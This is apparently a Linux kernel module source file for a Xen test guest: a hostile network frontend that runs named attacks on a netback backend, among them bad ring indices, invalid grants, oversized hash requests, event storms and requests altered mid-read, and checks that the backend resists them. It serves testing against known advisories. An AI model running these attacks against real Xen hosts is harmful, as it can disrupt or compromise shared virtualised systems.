// SPDX-License-Identifier: GPL-2.0-only
/*
 * A network frontend that does one named wrong thing: module for a test guest, in place of the real
 * one. Where front.c does anything at random, this does what an advisory was about, and looks at
 * the answer:
 *
 *     echo endless >/sys/module/shoji_hostile_net/parameters/attack
 *
 * connects the vif as a good frontend does, attacks, closes, and fails with an error (and a line in
 * the log) when the backend did not answer as it should. One vif, one queue, one at a time.
 */
#define pr_fmt(fmt) KBUILD_MODNAME ": " fmt

#include <linux/if_ether.h>
#include <linux/interrupt.h>
#include <linux/mm.h>
#include <linux/module.h>
#include <xen/events.h>
#include <xen/grant_table.h>
#include "common/ring.h"
#include "include/xen/io/netif.h"
#include <xen/page.h>

#include "evil.h"

#define PAGES	 512 /* of data: as many as one list of the control ring names */
#define BAD_GREF 0x00f00000 /* beyond every grant table */

enum { TX, RX, CTRL, RINGS };

static struct xenbus_device *dev; /* the vif; NULL: none yet */
static struct ring_shared *ring[RINGS];
static grant_ref_t ring_ref[RINGS];
static u32 prod[RINGS], cons; /* cons: of the control ring */
static struct page *page[PAGES];
static grant_ref_t ref[PAGES];
static struct page *list_page;
static grant_ref_t list_ref;
static evtchn_port_t port[2]; /* tx and rx, control */
static int irq[2];

static irqreturn_t event(int number, void *data)
{
	return IRQ_HANDLED;
}

/* ---- connecting as one should ---- */

static int make_page(struct page **at, grant_ref_t *gref)
{
	int err;

	*at = alloc_page(GFP_KERNEL | __GFP_ZERO);
	if (!*at)
		return -ENOMEM;
	err = gnttab_grant_foreign_access(dev->otherend_id, xen_page_to_gfn(*at), 0);
	if (err < 0) {
		__free_page(*at);
		*at = NULL;
		return err;
	}
	*gref = err;
	return 0;
}

static int make_all(void)
{
	unsigned int i;
	int err = 0;

	cons = 0;
	for (i = 0; i < RINGS && !err; i++) {
		err = xenbus_setup_ring(dev, GFP_KERNEL, (void **)&ring[i], 1, &ring_ref[i]);
		if (err)
			break;
		ring[i]->req.event = 1;
		ring[i]->rsp.event = 1;
		prod[i] = 0;
	}
	for (i = 0; i < 2 && !err; i++) {
		err = xenbus_alloc_evtchn(dev, &port[i]);
		if (err)
			break;
		irq[i] = bind_evtchn_to_irqhandler(port[i], event, 0, "shoji-hostile-net", &irq[i]);
		if (irq[i] < 0)
			err = irq[i];
	}
	return err;
}

static void free_all(void)
{
	unsigned int i;

	for (i = 0; i < 2; i++) {
		if (irq[i] > 0)
			unbind_from_irqhandler(irq[i], &irq[i]);
		else if (port[i])
			xenbus_free_evtchn(dev, port[i]);
		irq[i] = 0;
		port[i] = 0;
	}
	for (i = 0; i < RINGS; i++)
		if (ring[i])
			xenbus_teardown_ring((void **)&ring[i], 1, &ring_ref[i]);
}

static void publish(void)
{
	static const char *const ones[] = {"request-rx-copy", "feature-rx-notify", "feature-sg",
					   "feature-gso-tcpv4"};
	const char *dir = dev->nodename;
	unsigned int i;

	xenbus_printf(XBT_NIL, dir, "tx-ring-ref", "%u", ring_ref[TX]);
	xenbus_printf(XBT_NIL, dir, "rx-ring-ref", "%u", ring_ref[RX]);
	xenbus_printf(XBT_NIL, dir, "event-channel", "%u", port[0]);
	xenbus_printf(XBT_NIL, dir, "ctrl-ring-ref", "%u", ring_ref[CTRL]);
	xenbus_printf(XBT_NIL, dir, "event-channel-ctrl", "%u", port[1]);
	for (i = 0; i < ARRAY_SIZE(ones); i++)
		xenbus_write(XBT_NIL, dir, ones[i], "1");
}

static void set_state(enum xenbus_state state)
{
	xenbus_printf(XBT_NIL, dev->nodename, "state", "%d", state);
}

static bool backend_is(unsigned int states, unsigned int ms)
{
	return evil_wait_state(dev->otherend, states, ms);
}

static int join(void)
{
	int err;

	set_state(XenbusStateInitialising);
	if (!backend_is(1 << XenbusStateInitWait, 15000))
		return -ETIMEDOUT;
	err = make_all();
	if (err)
		return err;
	publish();
	set_state(XenbusStateConnected);
	return backend_is(1 << XenbusStateConnected, 15000) ? 0 : -ETIMEDOUT;
}

static void part(void)
{
	set_state(XenbusStateClosing);
	backend_is(1 << XenbusStateClosing | 1 << XenbusStateClosed, 10000);
	set_state(XenbusStateClosed);
	backend_is(1 << XenbusStateClosed, 10000);
	free_all();
}

/* ---- requests ---- */

static union netif_tx_slot *tx_slot(void)
{
	return &((struct netif_tx_ring *)ring[TX])->slot[prod[TX]++ & NET_RING_MASK];
}

static void put_tx(u32 gref, unsigned int offset, unsigned int size, unsigned int flags)
{
	u16 id = prod[TX] & NET_RING_MASK;

	tx_slot()->req = (struct netif_tx_request){gref, offset, flags, id, size};
}

static void push(unsigned int which)
{
	virt_wmb(); /* the slots before the index; partner: ring_take() of the backend */
	WRITE_ONCE(ring[which]->req.prod, prod[which]);
	notify_remote_via_irq(irq[which == CTRL]);
}

/* A frame of 60 bytes that is for nobody. */
static void put_frame(void)
{
	static const u8 header[] = {0x02, 0,    0, 0,    0x77, 0x77, 0x00,
				    0x16, 0x3e, 0, 0x77, 0x77, 0x88, 0xb5};

	memcpy(page_address(page[0]), header, sizeof(header));
	put_tx(ref[0], 0, 60, 0);
}

/* @pieces of @bytes each, the first of @first: together a frame. */
static void put_chain(unsigned int pieces, unsigned int bytes, unsigned int first)
{
	unsigned int i;

	put_frame();
	prod[TX]--;
	for (i = 0; i < pieces; i++)
		put_tx(ref[0], i ? 14 : 0, i ? bytes : first + (pieces - 1) * bytes,
		       i + 1 < pieces ? NETTXF_more_data : 0);
}

/* Are all tx requests answered, and each with @status? */
static int answered(int status)
{
	const struct netif_tx_ring *tx = (void *)ring[TX];
	unsigned int i, ms;

	for (ms = 0; READ_ONCE(tx->head.rsp.prod) != prod[TX]; ms += 20) {
		if (ms >= 5000) {
			pr_err("%u of %u requests were answered\n", READ_ONCE(tx->head.rsp.prod),
			       prod[TX]);
			return -ETIMEDOUT;
		}
		msleep(20);
	}
	for (i = 0; i < prod[TX]; i++) {
		s16 is = READ_ONCE(tx->slot[i & NET_RING_MASK].rsp.status);

		if (is != status && is != NETIF_RSP_NULL) {
			pr_err("request %u was answered with %d, not %d\n", i, is, status);
			return -EIO;
		}
	}
	return 0;
}

/* A device that is shut answers nothing, not even a good frame. */
static int is_shut(void)
{
	u32 before = READ_ONCE(ring[TX]->rsp.prod);

	msleep(500);
	put_frame();
	push(TX);
	msleep(500);
	if (READ_ONCE(ring[TX]->rsp.prod) == before)
		return 0;
	pr_err("the vif still works\n");
	return -EIO;
}

/*
 * One question on the control ring. Returns the status, data in *@data (may be NULL), or an error.
 */
static int ask(unsigned int type, u32 a, u32 b, u32 c, u32 *data)
{
	union netif_ctrl_slot *slot =
		&((struct netif_ctrl_ring *)ring[CTRL])->slot[prod[CTRL]++ % CTRL_RING_SIZE];
	unsigned int ms;

	slot->req = (struct xen_netif_ctrl_request){.id = 7, .type = type, .data = {a, b, c}};
	push(CTRL);
	cons++;
	for (ms = 0; READ_ONCE(ring[CTRL]->rsp.prod) != cons; ms += 5) {
		if (ms >= 10000)
			return -ETIMEDOUT;
		usleep_range(500, 5000);
	}
	if (data)
		*data = READ_ONCE(slot->rsp.data);
	return READ_ONCE(slot->rsp.status);
}

static int expect(int is, int should, const char *what)
{
	if (is == should)
		return 0;
	pr_err("%s: %d, not %d\n", what, is, should);
	return -EIO;
}

static void fill_list(unsigned int count)
{
	struct xen_netif_gref *list = page_address(list_page);
	unsigned int i;

	for (i = 0; i < count; i++)
		list[i] = (struct xen_netif_gref){ref[i], 0};
}

/* ---- the attacks; each is connected when it begins ---- */

static int endless(void)
{
	unsigned int i;

	for (i = 0; i < 100; i++)
		put_tx(ref[0], 0, i ? 0 : 0xffff, NETTXF_more_data);
	push(TX);
	return is_shut();
}

static int extra(void)
{
	put_tx(ref[0], 0, 60, NETTXF_extra_info);
	push(TX);
	return is_shut();
}

static int tx_index(void)
{
	prod[TX] = 10000;
	push(TX);
	return is_shut();
}

/* It is found when the next packet is for the guest. */
static int rx_index(void)
{
	prod[RX] = 0x80000000;
	push(RX);
	msleep(2500);
	return is_shut();
}

static int ctrl_index(void)
{
	prod[CTRL] = 1000;
	push(CTRL);
	return is_shut();
}

static int tiny(void)
{
	put_chain(18, 1, 43);
	push(TX);
	return answered(NETIF_RSP_OKAY);
}

static int empty(void)
{
	put_chain(18, 0, 60);
	put_chain(2, 60, 0);
	put_chain(5, 15, 0);
	push(TX);
	return answered(NETIF_RSP_OKAY);
}

/* A TCP packet to be segmented, whose headers lie in slots of 5 bytes. */
static int headers(void)
{
	static const u8 ip[] = {0x45, 0, 0x0b, 0xb8, 0, 1,  0,  0, 64, 6,
				0,    0, 10,   9,    0, 77, 10, 9, 0,  78};
	static const u8 tcp[] = {0x30, 0x39, 0x30, 0x3a, 0,    0, 0, 1, 0, 0,
				 0,    1,    0x50, 0x10, 0x10, 0, 0, 0, 0, 0};
	u8 *at = page_address(page[0]);
	unsigned int i;

	put_frame();
	prod[TX]--;
	at[12] = 0x08;
	at[13] = 0x00;
	memcpy(at + 14, ip, sizeof(ip));
	memcpy(at + 34, tcp, sizeof(tcp));
	put_tx(ref[0], 0, 14 + 3000,
	       NETTXF_more_data | NETTXF_extra_info | NETTXF_csum_blank | NETTXF_data_validated);
	tx_slot()->extra = (struct netif_extra_info){.type = XEN_NETIF_EXTRA_TYPE_GSO,
						     .u.gso.size = 1000,
						     .u.gso.type = XEN_NETIF_GSO_TYPE_TCPV4};
	for (i = 0; i < 15; i++)
		put_tx(ref[0], 4 + 5 * i, 5, NETTXF_more_data);
	put_tx(ref[0], 79, 14 + 3000 - 79, 0);
	push(TX);
	return answered(NETIF_RSP_OKAY);
}

static int grants(void)
{
	struct xen_netif_gref *list = page_address(list_page);
	int err;

	put_tx(BAD_GREF, 0, 60, 0);
	put_tx(ref[0], 0, 120, NETTXF_more_data);
	put_tx(0xffffffff, 0, 60, 0);
	push(TX);
	err = answered(NETIF_RSP_ERROR);
	if (err)
		return err;
	fill_list(20);
	list[13].ref = BAD_GREF;
	err = expect(ask(XEN_NETIF_CTRL_TYPE_ADD_GREF_MAPPING, 0, list_ref, 20, NULL),
		     XEN_NETIF_CTRL_STATUS_INVALID_PARAMETER,
		     "a pool with a bad grant among good ones");
	if (err)
		return err;
	err = expect(ask(XEN_NETIF_CTRL_TYPE_ADD_GREF_MAPPING, 0, BAD_GREF, 20, NULL),
		     XEN_NETIF_CTRL_STATUS_INVALID_PARAMETER, "a list that is no grant");
	if (err)
		return err;
	fill_list(20);
	return expect(ask(XEN_NETIF_CTRL_TYPE_ADD_GREF_MAPPING, 0, list_ref, 20, NULL),
		      XEN_NETIF_CTRL_STATUS_SUCCESS, "the good ones afterwards");
}

static int hash(void)
{
	static const u32 bad[][2] = {
		{2, 0xffffffff}, {0xffffffff, 2}, {129, 0}, {1, 128}, {0x40000001, 0}};
	unsigned int i;
	int err = expect(ask(XEN_NETIF_CTRL_TYPE_SET_HASH_MAPPING_SIZE, 128, 0, 0, NULL),
			 XEN_NETIF_CTRL_STATUS_SUCCESS, "a table of 128 entries");

	for (i = 0; i < ARRAY_SIZE(bad) && !err; i++)
		err = expect(ask(XEN_NETIF_CTRL_TYPE_SET_HASH_MAPPING, list_ref, bad[i][0],
				 bad[i][1], NULL),
			     XEN_NETIF_CTRL_STATUS_BUFFER_OVERFLOW, "entries beyond it");
	return err ?: expect(ask(XEN_NETIF_CTRL_TYPE_SET_HASH_KEY, list_ref, 0xffff, 0, NULL),
			     XEN_NETIF_CTRL_STATUS_BUFFER_OVERFLOW, "a key of 65535 bytes");
}

/* Pages come and go: none may stay behind, and no more than the limit may be there at once. */
static int pool(void)
{
	unsigned int i;
	u32 undone;
	int err = 0;

	for (i = 0; i < 100 && !err; i++) {
		fill_list(PAGES);
		err = expect(ask(XEN_NETIF_CTRL_TYPE_ADD_GREF_MAPPING, 0, list_ref, PAGES, NULL),
			     XEN_NETIF_CTRL_STATUS_SUCCESS, "pages come");
		if (!err)
			err = expect(ask(XEN_NETIF_CTRL_TYPE_DEL_GREF_MAPPING, 0, list_ref, PAGES,
					 &undone),
				     XEN_NETIF_CTRL_STATUS_SUCCESS, "and go");
		if (!err)
			err = expect(undone, PAGES, "all of them");
	}
	return err;
}

static int complaints(void)
{
	unsigned int i;
	int err = 0;

	for (i = 0; i < 200 && !err; i++)
		err = expect(ask(XEN_NETIF_CTRL_TYPE_ADD_GREF_MAPPING, 0, BAD_GREF, 513, NULL),
			     XEN_NETIF_CTRL_STATUS_INVALID_PARAMETER, "a list of too many");
	for (i = 0; i < 50 && !err; i++) {
		struct xen_netif_gref *list = page_address(list_page);

		list[0] = (struct xen_netif_gref){BAD_GREF, 0};
		err = expect(ask(XEN_NETIF_CTRL_TYPE_ADD_GREF_MAPPING, 0, list_ref, 1, NULL),
			     XEN_NETIF_CTRL_STATUS_INVALID_PARAMETER, "a bad grant");
	}
	return err;
}

/* Events without anything behind them, for five seconds. Then it works as before. */
static int storm(void)
{
	unsigned long end = jiffies + 5 * HZ;
	unsigned int sent = 0;

	for (; time_before(jiffies, end); sent++) {
		notify_remote_via_irq(irq[sent & 1]);
		if (sent % 64 == 0)
			cond_resched();
	}
	pr_info("storm: %u events\n", sent);
	put_frame();
	push(TX);
	return answered(NETIF_RSP_OKAY);
}

/* No page is offered for 20 seconds; then some are, and something must come. */
static int untaken(void)
{
	struct netif_rx_ring *rx = (void *)ring[RX];
	unsigned int i, ms;

	msleep(20000);
	for (i = 0; i < 200; i++)
		rx->slot[prod[RX]++ & NET_RING_MASK].req =
			(struct netif_rx_request){.id = i, .gref = ref[1 + i]};
	push(RX);
	for (ms = 0; ms < 8000; ms += 20) {
		if (READ_ONCE(rx->head.rsp.prod))
			return 0;
		msleep(20);
	}
	pr_err("pages were offered and nothing came\n");
	return -EIO;
}

static int leave(void)
{
	unsigned int round, i;
	int err = 0;

	for (round = 0; round < 6 && !err; round++) {
		for (i = 0; i < 100; i++)
			put_frame();
		push(TX);
		for (i = 0; i < 500; i++)
			notify_remote_via_irq(irq[i & 1]);
		/* Away without a word: what the backend has under way is in nobody's interest. */
		set_state(XenbusStateClosed);
		for (i = 0; i < 500; i++)
			notify_remote_via_irq(irq[i & 1]);
		if (!backend_is(1 << XenbusStateClosed, 10000))
			return -ETIMEDOUT;
		free_all();
		err = join();
	}
	return err;
}

static int keys(void)
{
	unsigned int i;

	for (i = 0; i < 400; i++) {
		xenbus_printf(XBT_NIL, dev->nodename, "request-multicast-control", "%u", i & 1);
		xenbus_printf(XBT_NIL, dev->nodename, "xdp-headroom", "%u", i * 97);
		if (i % 8 == 0)
			set_state(i % 16 ? XenbusStateReconfiguring : XenbusStateConnected);
	}
	set_state(XenbusStateConnected);
	put_frame();
	push(TX);
	return answered(NETIF_RSP_OKAY);
}

/* The fields of a request become others while the backend looks at them. */
static int fetch(void)
{
	static const u32 size[] = {60, 0xffff, 0, 4097, 13};
	unsigned long end = jiffies + 4 * HZ;
	unsigned int round = 0, shut = 0, i;
	int err = 0;

	for (; time_before(jiffies, end) && !err; round++) {
		struct netif_tx_request *req =
			&((struct netif_tx_ring *)ring[TX])->slot[prod[TX] & NET_RING_MASK].req;

		put_frame();
		push(TX);
		for (i = 0; i < 400; i++) {
			WRITE_ONCE(req->size, size[i % ARRAY_SIZE(size)]);
			WRITE_ONCE(req->offset, i & 4 ? 0 : 4090);
			WRITE_ONCE(req->flags, i & 2 ? 0 : NETTXF_more_data);
		}
		for (i = 0; i < 40 && READ_ONCE(ring[TX]->rsp.prod) != prod[TX]; i++)
			usleep_range(500, 1000);
		if (READ_ONCE(ring[TX]->rsp.prod) == prod[TX])
			continue;
		shut++;
		part();
		err = join();
	}
	pr_info("fetch: %u rounds, shut %u times\n", round, shut);
	return err;
}

static const struct {
	const char *name;
	int (*run)(void);
} attacks[] = {
	{"endless", endless}, {"extra", extra}, {"tx_index", tx_index}, {"rx_index", rx_index},
	{"ctrl_index", ctrl_index}, {"tiny", tiny}, {"empty", empty}, {"headers", headers},
	{"grants", grants}, {"hash", hash}, {"pool", pool}, {"storm", storm},
	{"complaints", complaints}, {"untaken", untaken}, {"leave", leave}, {"keys", keys},
	{"fetch", fetch},
};

static int attack(const char *name, const struct kernel_param *param)
{
	unsigned int i;
	int err;

	for (i = 0; i < ARRAY_SIZE(attacks); i++)
		if (sysfs_streq(name, attacks[i].name))
			break;
	if (i == ARRAY_SIZE(attacks))
		return -EINVAL;
	if (!dev)
		return -ENODEV;
	err = join();
	if (!err)
		err = attacks[i].run();
	else
		pr_err("%s: cannot connect\n", attacks[i].name);
	part();
	pr_info("%s: %d\n", attacks[i].name, err);
	return err;
}

static const struct kernel_param_ops attack_ops = {.set = attack};
module_param_cb(attack, &attack_ops, NULL, 0200);

/* ---- the module ---- */

static void free_pages_all(void)
{
	unsigned int i;

	for (i = 0; i < PAGES; i++)
		if (page[i])
			gnttab_end_foreign_access(ref[i], page[i]);
	if (list_page)
		gnttab_end_foreign_access(list_ref, list_page);
	memset(page, 0, sizeof(page));
	list_page = NULL;
}

static int hostile_probe(struct xenbus_device *xdev, const struct xenbus_device_id *id)
{
	unsigned int i;
	int err;

	if (dev)
		return -EBUSY;
	dev = xdev;
	err = make_page(&list_page, &list_ref);
	for (i = 0; i < PAGES && !err; i++)
		err = make_page(&page[i], &ref[i]);
	if (err) {
		free_pages_all();
		dev = NULL;
	}
	return err;
}

static void hostile_remove(struct xenbus_device *xdev)
{
	free_pages_all();
	dev = NULL;
}

static void hostile_changed(struct xenbus_device *xdev, enum xenbus_state state)
{
}

static const struct xenbus_device_id hostile_ids[] = {{"vif"}, {""}};

static struct xenbus_driver hostile_driver = {
	.name = "shoji-hostile-net",
	.ids = hostile_ids,
	.probe = hostile_probe,
	.remove = hostile_remove,
	.otherend_changed = hostile_changed,
};

static int __init hostile_init(void)
{
	return xenbus_register_frontend(&hostile_driver);
}

static void __exit hostile_exit(void)
{
	xenbus_unregister_driver(&hostile_driver);
}

module_init(hostile_init);
module_exit(hostile_exit);
MODULE_DESCRIPTION("Shoji: a network frontend that does one wrong thing, for tests only");
MODULE_LICENSE("GPL");
